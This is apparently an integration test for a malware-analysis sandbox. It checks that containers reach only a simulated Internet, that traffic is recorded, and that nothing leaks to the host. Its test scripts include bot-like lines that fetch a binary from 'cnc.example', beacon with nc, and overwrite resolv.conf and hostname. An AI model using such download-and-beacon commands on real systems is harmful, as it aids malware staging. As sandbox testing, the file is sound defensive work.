package org.malassay.environments.container;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.github.dockerjava.api.async.ResultCallback;
import com.github.dockerjava.api.model.Capability;
import com.github.dockerjava.api.model.Frame;
import com.github.dockerjava.api.model.HostConfig;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.malassay.behavior.Conversation;
import org.malassay.behavior.Event;
import org.malassay.behavior.EventSink;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.environment.Environment;
import org.malassay.environment.EnvironmentException;
import org.malassay.environment.Evidence;
import org.malassay.environment.Execution;
import org.malassay.environment.Guest;
import org.malassay.environment.GuestException;
import org.malassay.environment.Limits;
import org.malassay.environment.Opening;
import org.malassay.environment.Order;
import org.malassay.environment.Piece;
import org.malassay.environments.contract.ArmPrograms;
import org.malassay.environments.host.Owner;
import org.malassay.environments.host.Timeouts;
import org.malassay.environments.internet.Answers;
import org.malassay.environments.internet.GuestInternet;
import org.malassay.environments.internet.GuestNetwork;
import org.malassay.environments.internet.HarmlessPrograms;
import org.malassay.environments.internet.HostCapture;
import org.malassay.environments.internet.InternetChoice;
import org.malassay.environments.internet.Owners;
import org.malassay.environments.internet.PacketFile;
import org.malassay.options.Options;
import org.malassay.sample.Sample;

/** Containers of a real engine whose Internet is simulated by a helper container. */
@Tag("guest")
@Timeout(180)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ContainerInternetIT {
  private static final Answers ANSWERS = Answers.load(Options.of(Map.of()), HarmlessPrograms.NONE);

  private static final String LOOK =
      """
      busybox readlink /proc/self/ns/net
      echo nameserver 192.168.1.1 >/etc/resolv.conf # as the agent does in a guest
      busybox hostname
      busybox ip -o addr
      busybox wget -qO - http://cnc.example/page.html
      busybox wget -qO - http://[2001:db8::7]:8080/
      busybox ping -c 1 -q 198.51.100.7
      echo hello | busybox nc -w 1 203.0.113.4 4000
      """;

  @TempDir private Path folder;
  private Engine engine;
  private String helperImage;
  private GuestImage image;
  private final String run = "it-" + UUID.randomUUID();

  @BeforeAll
  void prepare() throws Exception {
    engine = Engine.find(new Timeouts(1));
    helperImage = InternetHelper.image(engine, engine.info());
    image =
        new GuestImages(engine, engine.info())
            .prepare(Optional.empty(), 80, /* hasLogins= */ false);
  }

  @AfterAll
  void nothingIsLeft() throws Exception {
    Instant deadline = Instant.now().plusSeconds(10); // an engine may still be at it
    while (!engine.containers(GuestLabels.RUN, run).isEmpty() && Instant.now().isBefore(deadline)) {
      Thread.sleep(100);
    }
    assertThat(engine.containers(GuestLabels.RUN, run)).isEmpty();
    engine.close();
  }

  private Map<String, String> labels() {
    return GuestLabels.of(Owner.self(), run, Instant.now(), Duration.ofMinutes(5));
  }

  private InternetHelper helper() throws Exception {
    return InternetHelper.start(engine, helperImage, run, InternetHelper.RIGHTS);
  }

  /** Runs a shell's command in a container on the guest's side of a helper's network. */
  private String guest(InternetHelper helper, String command) throws Exception {
    String id =
        engine.create(
            engine
                .describe(image.id())
                .withEntrypoint("/bin/sh", "-c", command)
                .withLabels(labels())
                .withAttachStdout(true)
                .withHostConfig(HostConfig.newHostConfig().withNetworkMode(helper.networkMode())));
    ByteArrayOutputStream output = new ByteArrayOutputStream();
    try (ResultCallback.Adapter<Frame> frames =
        new ResultCallback.Adapter<>() {
          @Override
          public void onNext(Frame frame) {
            output.writeBytes(frame.getPayload());
          }
        }) {
      engine.attach(id, new ByteArrayInputStream(new byte[0]), frames);
      engine.start(id);
      assertThat(engine.awaitEnd(id, Duration.ofSeconds(60))).isTrue();
      frames.awaitCompletion(10, TimeUnit.SECONDS);
      return output.toString(UTF_8);
    } finally {
      engine.remove(id);
    }
  }

  private List<Event> observe(GuestNetwork network) {
    List<Event> events = Collections.synchronizedList(new ArrayList<>());
    network.observe(Instant.now(), events::add);
    return events;
  }

  @Test
  void aContainerFindsAnInternet() throws Exception {
    try (InternetHelper helper = helper()) {
      GuestNetwork network = helper.next(ANSWERS, Files.createDirectories(folder.resolve("one")));
      List<Event> events = observe(network);
      String output = guest(helper, LOOK);
      assertThat(output)
          .startsWith("net:[%d]\n".formatted(network.pair().namespace()))
          .contains("malassay-guest\n")
          .containsPattern("eth0 +inet 192\\.168\\.1\\.50/24")
          .containsPattern("eth0 +inet6 fd00::50/128")
          .contains("1 packets received");
      assertThat(output.split("<html>", -1)).hasSize(3);
      assertThat(network.finish()).isEqualTo(FacetState.OBSERVED);
      network.collect(new Evidence(folder.resolve("evidence")), Owners.NONE);
      assertThat(
              events.stream()
                  .filter(Conversation.class::isInstance)
                  .map(Conversation.class::cast)
                  .map(
                      it ->
                          "%s %s %s"
                              .formatted(it.transport(), it.peer(), it.protocol().orElse("-"))))
          .contains(
              "udp 192.168.1.1:53 dns",
              "tcp [2001:db8::7]:8080 http",
              "icmp 198.51.100.7:0 -",
              "tcp 203.0.113.4:4000 -");
      assertThat(folder.resolve("evidence").resolve(PacketFile.NAME)).isNotEmptyFile();
    }
  }

  @Test
  void oneHelperServesOneGuestAfterTheOther() throws Exception {
    try (InternetHelper helper = helper()) {
      long before = 0;
      for (int i = 0; i < 3; i++) {
        GuestNetwork network = helper.next(ANSWERS, folder);
        List<Event> events = observe(network);
        String words = "guest %d\n".formatted(i);
        String output =
            guest(
                helper,
                "busybox readlink /proc/self/ns/net; echo guest %d | busybox nc -w 1 203.0.113.4 7"
                    .formatted(i));
        assertThat(network.pair().namespace()).isNotEqualTo(before);
        before = network.pair().namespace();
        assertThat(output).isEqualTo("net:[%d]\n".formatted(network.pair().namespace()));
        network.finish();
        assertThat(events)
            .singleElement(InstanceOfAssertFactories.type(Conversation.class))
            .satisfies(it -> assertThat(it.sent()).isEqualTo(words));
      }
    }
  }

  private GuestInternet internet(InternetHelper helper, String name) throws Exception {
    Path own = Files.createDirectories(folder.resolve(name));
    return GuestInternet.in(own, () -> helper.next(ANSWERS, own));
  }

  @Test
  void aContainerThatTriesItIsHeard() throws Exception {
    try (InternetHelper helper = helper();
        GuestInternet internet = internet(helper, "tried")) {
      helper.check(engine, helperImage, run, internet);
    }
  }

  /** As where an engine understands the network's name otherwise. */
  @Test
  void aContainerThatIsElsewhereIsToldWithTheNameOfTheNetwork() throws Exception {
    try (InternetHelper helper = helper();
        InternetHelper other = helper();
        GuestInternet internet = internet(helper, "alone")) {
      String start = "in the network \"%s\", the simulated Internet could not be tried: ";
      assertThatThrownBy(() -> other.check(engine, helperImage, run, internet))
          .isInstanceOf(GuestException.class)
          .hasMessageStartingWith(start.formatted(other.networkMode()))
          .hasMessageEndingWith("Network is unreachable");
    }
    try (InternetHelper helper = helper();
        InternetHelper other = helper();
        GuestInternet internet = internet(helper, "one");
        GuestInternet silent = internet(other, "other")) {
      assertThat(silent).isNotSameAs(internet);
      assertThatThrownBy(() -> other.check(engine, helperImage, run, internet))
          .isInstanceOf(GuestException.class)
          .hasMessageContaining("and told 0, 0 and "); // packets: its kernel looks for neighbors
    }
  }

  @Test
  void nothingLeavesTheHost() throws Exception {
    assumeTrue(HostCapture.isPossible());
    try (HostCapture capture = new HostCapture(folder, engineProcess());
        InternetHelper helper = helper()) {
      GuestNetwork network = helper.next(ANSWERS, folder);
      List<Event> events = observe(network);
      guest(helper, LOOK);
      network.finish();
      assertThat(events).hasSizeGreaterThan(5);
      assertThat(capture.leaks()).isEmpty();
    }
  }

  /** The engine may run in a network namespace of its own, as it does where these are developed. */
  private static List<Long> engineProcess() throws IOException {
    Path file = Path.of("/var/run/docker.pid");
    return Files.isReadable(file)
        ? List.of(Long.valueOf(Files.readString(file).strip()))
        : List.of();
  }

  private static final Limits LIMITS =
      new Limits(Duration.ofSeconds(8), 1 << 20, 256 << 20, 128, 1, 64 << 20);

  private Opening opening(Map<String, String> options) {
    return new Opening(Options.of(options), LIMITS, run, EnumSet.allOf(Facet.class));
  }

  /** Bots ask for a name, fetch a program, and talk to an address of their own. */
  private static final String BOT =
      """
      #!/bin/sh
      cat /etc/resolv.conf /etc/hostname
      busybox wget -qO /tmp/next http://cnc.example/bins/next.arm && tail -c +2 /tmp/next | head -c 3
      echo hello | busybox nc -w 1 203.0.113.7 4000
      echo stained >/etc/hostname
      echo stained >/etc/resolv.conf
      """;

  @Test
  void whatASampleSaysIsToldWithItsProcessAndTheNextGuestSeesNothingOfIt() throws Exception {
    Sample bot = new ArmPrograms(folder).text("bot", BOT);
    List<Event> events = Collections.synchronizedList(new ArrayList<>());
    Evidence evidence = new Evidence(folder.resolve("bot"));
    try (Environment environment = new ContainerProvider().open(opening(Map.of()))) {
      assertThat(environment.observes()).containsEntry(Facet.NETWORK, Origin.NETWORK);
      for (int i = 0; i < 3; i++) { // the third one has the helper of the first
        try (Guest guest = environment.start()) {
          guest.put(bot);
          Execution execution = guest.run(Order.of(), i == 0 ? events::add : EventSink.NONE);
          assertThat(execution.stdout().text())
              .isEqualTo("nameserver 192.168.1.1\nmalassay-guest\nELF");
          assertThat(execution.recording().of(Facet.NETWORK)).isEqualTo(FacetState.OBSERVED);
          assertThat(guest.probe().available()).isTrue();
          if (i == 0) {
            guest.collect(evidence);
          }
        }
      }
    }
    assertThat(events.stream().filter(Question.class::isInstance).map(Question.class::cast))
        .extracting(it -> it.protocol() + " " + it.asked())
        .contains("dns A cnc.example", "http GET http://cnc.example/bins/next.arm");
    assertThat(events.stream().filter(Conversation.class::isInstance).map(Conversation.class::cast))
        .filteredOn(it -> it.peer().port() == 4000 || it.peer().port() == 80)
        .hasSize(2)
        .allSatisfy(
            it ->
                assertThat(events.stream().filter(ProgramStarted.class::isInstance))
                    .map(ProgramStarted.class::cast)
                    .filteredOn(started -> started.process() == it.process().orElse(0))
                    .extracting(ProgramStarted::program)
                    .contains("/usr/bin/busybox"));
    assertThat(evidence.index())
        .extracting(Piece::name)
        .contains(PacketFile.NAME, "conversations.jsonl.gz");
    assertThat(Files.readString(evidence.folder().resolve(PacketFile.NAME), ISO_8859_1))
        .contains("/usr/bin/busybox (process ");
  }

  @Test
  void withoutAnInternetTheHeaderSaysWhy() throws Exception {
    try (Environment none = new ContainerProvider().open(opening(Map.of("internet", "none")));
        Guest guest = none.start()) {
      assertThat(none.facts().get("network"))
          .startsWith("nothing but its loopback (-Dinternet=none)");
      assertThat(none.missing())
          .containsEntry(Facet.NETWORK, "guests have no network (-Dinternet=none)");
      guest.put(new ArmPrograms(folder).text("looks", "#!/bin/sh\nls /sys/class/net; hostname\n"));
      assertThat(guest.run(Order.of(), EventSink.NONE).stdout().text())
          .isEqualTo("lo\nmalassay-guest\n");
    }
  }

  @Test
  void whereItCannotBeHadTheHeaderSaysWhyUnlessItWasNamed() throws Exception {
    InternetChoice.Opener<InternetSupply> refused =
        () ->
            InternetSupply.open(
                engine, engine.info(), opening(Map.of()), List.of(Capability.NET_ADMIN));
    try (ContainerEnvironment environment =
        new ContainerEnvironment(Engine.find(new Timeouts(1)), image, LIMITS, run)) {
      assertThat(ContainerProvider.connect(environment, opening(Map.of()), refused))
          .startsWith("nothing but its loopback (no simulated Internet can be had: ")
          .contains("it takes CAP_SYS_ADMIN and CAP_NET_ADMIN");
      assertThat(environment.missing().get(Facet.NETWORK))
          .startsWith("guests have no network (no simulated Internet can be had: ");
      assertThatThrownBy(
              () ->
                  ContainerProvider.connect(
                      environment, opening(Map.of("internet", "simulated")), refused))
          .isInstanceOf(EnvironmentException.class)
          .hasMessageStartingWith("-Dinternet=simulated cannot be had at this engine: ");
    }
  }

  @Test
  void aHelperThatIsGoneIsToldToWhoeverWantsANetwork() throws Exception {
    InternetHelper helper = helper();
    GuestNetwork network = helper.next(ANSWERS, folder);
    helper.close();
    assertThatThrownBy(() -> helper.next(ANSWERS, folder)).isInstanceOf(GuestException.class);
    assertThatThrownBy(network::traffic).isInstanceOf(GuestException.class);
  }

  @Test
  void aRightThatIsMissingIsNamed() throws Exception {
    try (InternetHelper helper =
        InternetHelper.start(
            engine, helperImage, run, List.of(Capability.NET_ADMIN, Capability.NET_RAW))) {
      assertThatThrownBy(() -> helper.next(ANSWERS, folder))
          .isInstanceOf(GuestException.class)
          .hasMessage(
              "the simulated Internet cannot make a network namespace: Operation not permitted"
                  + " (it takes CAP_SYS_ADMIN and CAP_NET_ADMIN)");
    }
  }
}
